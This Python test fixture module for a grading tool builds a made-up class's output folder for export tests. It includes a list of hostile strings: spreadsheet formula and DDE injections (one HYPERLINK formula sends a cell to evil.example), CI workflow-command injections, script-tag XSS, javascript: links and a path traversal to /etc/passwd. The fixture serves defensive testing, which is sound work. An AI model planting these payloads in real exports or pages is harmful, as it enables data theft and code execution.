"""A graded class made up for tests of exports and of the class page: its output folder, as `gradmark grade` leaves it."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path

import msgspec

from grader.class_results import CLASS_NAME, Adjustment, Attempt, ClassResult, ClassRun, Status, StudentResult
from grader.results import Flag, Grade, KnownMistake, Outcome, PartScore, Problem, to_json
from tests.reports import sample

HOSTILE = (
    *sample.HOSTILE,
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "＝1+1", "x;=1+1", "'=1+1", "\"=1+1", "\n@x",
    "::error file=x::owned\n::stop-commands::x", "%0A::set-output name=x::y", "a,b:c%d", "##[add-mask]a",
    "| cell | <b>x</b> |\n|---|", "[link](javascript:alert(1)) ![i](http://evil.example/x.png)", "@everyone #1 www.evil.example",
    "</script><script>alert(1)</script>", "../../etc/passwd", "a\"b,c\nd;e", "%s %(x)s {0} ${x} $(x) `x`",
)  # fmt: skip
KNOWN = KnownMistake(
    id="rnn_step_forward.bias_missing", function="rnn_layers.rnn_step_forward", sentence="the bias `b` is not added",
    hint="Add it.",
)  # fmt: skip


def student(number: int, **changes: object) -> StudentResult:
    """An ordinary student with one graded hand-in, `submissions/s<number>`."""
    ordinary = StudentResult(
        id=f"00{number}", name=f"Ana{number} Silva", sortable_name=f"Silva, Ana{number}", email=f"ana{number}@uni.edu",
        sis_id=f"00{number}", login=f"ana{number}", lms_id=str(9000 + number), section="A" if number % 2 else "B",
        status=Status.GRADED, attempts=(attempt(f"s{number}"),), counted=1, earned=24, points=20, max_points=36,
        adjustments=(Adjustment(kind="late", points=-4, reason="Late by 1 day: 4 points."),),
        parts=(
            PartScore(id="rnn", title="Vanilla RNN captioning", points=21, max_points=36),
            PartScore(id="lstm", title="LSTM captioning", points=3, max_points=6, extra_credit=True),
        ),
    )  # fmt: skip
    return msgspec.structs.replace(ordinary, **changes)


def attempt(key: str, **changes: object) -> Attempt:
    """A hand-in whose results stand in `submissions/<key>`."""
    ordinary = Attempt(
        key=key, number=1, file=f"{key}.zip", sha256="0" * 64, seed=231, status=Status.GRADED, late_days=1,
        result=f"submissions/{key}/result.json", report=f"submissions/{key}/report.html", points=24, max_points=36,
    )  # fmt: skip
    return msgspec.structs.replace(ordinary, **changes)


def classroom(students: Sequence[StudentResult], **changes: object) -> ClassResult:
    """A class of `students`."""
    run = ClassRun(gradmark="0.1.0", seed=231, checks="c" * 64, rubric="r" * 64)
    ordinary = ClassResult(name="spring", form="folders", run=run, max_points=36, students=tuple(students))
    return msgspec.structs.replace(ordinary, **changes)


def lay(folder: Path, result: ClassResult, grades: dict[str, Grade] | Grade) -> Path:
    """The output folder of `result`; `grades` by key, or one for all."""
    for each in {
        one.key: one for person in result.students for one in person.attempts if one.result
    }.values():
        target = folder / each.result
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(to_json(grades if isinstance(grades, Grade) else grades[each.key]))
    folder.mkdir(parents=True, exist_ok=True)
    (folder / CLASS_NAME).write_bytes(to_json(result))
    return folder


def typical() -> tuple[ClassResult, Grade]:
    """Seven students: three graded, one of them flagged, undecided, crashed, unreadable and missing ones."""
    flag = Flag(kind="shortcut", subject="rnn_layers.rnn_forward", message="calls `torch.nn.RNN` (line 3)")
    note = Problem(file="b.zip", message="2 hand-ins of one student")
    people = [
        student(1), student(2, points=36, flags=(flag,), problems=(note,)), student(3, points=5),
        student(4, undecided=2), student(5, status=Status.CRASHED, points=0, undecided=36),
        student(6, status=Status.UNREADABLE, points=0, on_roster=False),
        student(7, status=Status.MISSING, attempts=(), counted=0, points=0, parts=(), adjustments=()),
    ]  # fmt: skip
    grade = sample.typical()
    checks = [
        *grade.checks,
        sample.check("rnn_step_forward.bias", Outcome.FAILED, mistake=KNOWN, message="next_h differs"),
    ]
    grade = msgspec.structs.replace(grade, checks=tuple(checks))
    return classroom(people, problems=(Problem(file="notes.txt", message="is no hand-in"),)), grade


def hostile(text: str) -> tuple[ClassResult, Grade]:
    """`text` wherever a string can stand."""
    flag, problem = Flag(kind=text, subject=text, message=text), Problem(file=text, message=text, hint=text)
    step = Adjustment(kind=text, points=-1, reason=text)
    one = attempt("s1", file=text, message=text, submitted=text)
    part = PartScore(id=text, title=text, points=1, max_points=10)
    person = student(
        1, id=text, name=text, sortable_name=text, email=text, sis_id=text, login=text, lms_id=text, section=text,
        group=(text, "x"), attempts=(one,), adjustments=(step,), parts=(part,), flags=(flag,), problems=(problem,),
        undecided=1,
    )  # fmt: skip
    other = msgspec.structs.replace(person, id=f"{text}2", undecided=0, on_roster=False)
    result = classroom([person, other], name=text, form=text, policies=(text,), problems=(problem,))
    run = msgspec.structs.replace(result.run, selection=text, gradmark=text)
    grade = sample.hostile(text)
    known = msgspec.structs.replace(KNOWN, id=text, function=text, sentence=text, hint=text)
    failed = msgspec.structs.replace(grade.checks[1], id="x.y.z", mistake=known)
    return msgspec.structs.replace(result, run=run), msgspec.structs.replace(
        grade, checks=(*grade.checks, failed)
    )


def hostile_class() -> tuple[ClassResult, dict[str, Grade]]:
    """One student for each hostile string, who has it in every place."""
    people, grades = [], {}
    for number, text in enumerate(HOSTILE):
        result, grade = hostile(text)
        key = f"s{number}"
        hand_in = attempt(key, file=text, message=text)
        people.append(msgspec.structs.replace(result.students[0], id=f"{text}{number}", attempts=(hand_in,)))
        grades[key] = grade
    return msgspec.structs.replace(hostile("".join(HOSTILE))[0], students=tuple(people)), grades
